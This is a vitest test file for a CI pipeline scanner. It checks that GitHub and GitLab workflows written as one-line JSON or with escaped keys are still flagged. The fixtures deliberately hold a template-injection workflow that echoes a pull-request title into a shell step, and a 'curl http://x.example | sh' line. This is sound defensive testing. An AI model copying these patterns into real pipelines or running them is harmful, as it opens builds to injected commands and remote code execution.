// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { pipelineFileScanner } from './pipeline-file-scanner.ts';

const flow =
  '{"on": "pull_request_target", "jobs": {"a": {"runs-on": "x", "steps": [{"run": "echo ${{ github.event.pull_request.title }}"}]}}}';

async function rulesFor(path: string, text: string): Promise<readonly string[]> {
  const scanner = pipelineFileScanner({});
  scanner.take({ path, bytes: Buffer.from(text) });
  const { decisions } = await scanner.finish();
  return decisions.map(({ rule }) => rule);
}

describe('pipelines among the files of a target', () => {
  test('a workflow in one line, as JSON, was passed over as if it were no pipeline', async () => {
    expect(await rulesFor('.github/workflows/a.yml', flow)).toContain('pipeline/template-injection');
    expect(
      await rulesFor('.gitlab-ci.yml', '{"job": {"image": "node:20", "script": ["curl http://x.example | sh"]}}'),
    ).toContain('pipeline/unverified-script');
  });

  test('a workflow whose keys are written with escapes was passed over', async () => {
    const escaped = flow
      .replace('"on"', '"\\u006fn"')
      .replace('"jobs"', '"j\\u006fbs"')
      .replace('"steps"', '"s\\u0074eps"');
    expect(await rulesFor('.github/workflows/a.yml', escaped)).toContain('pipeline/template-injection');
  });

  test('a file of a million empty lines took minutes to be told from a pipeline', async () => {
    expect(await rulesFor('data/empty.yml', '\n'.repeat(1_000_000))).toEqual([]);
  });
});
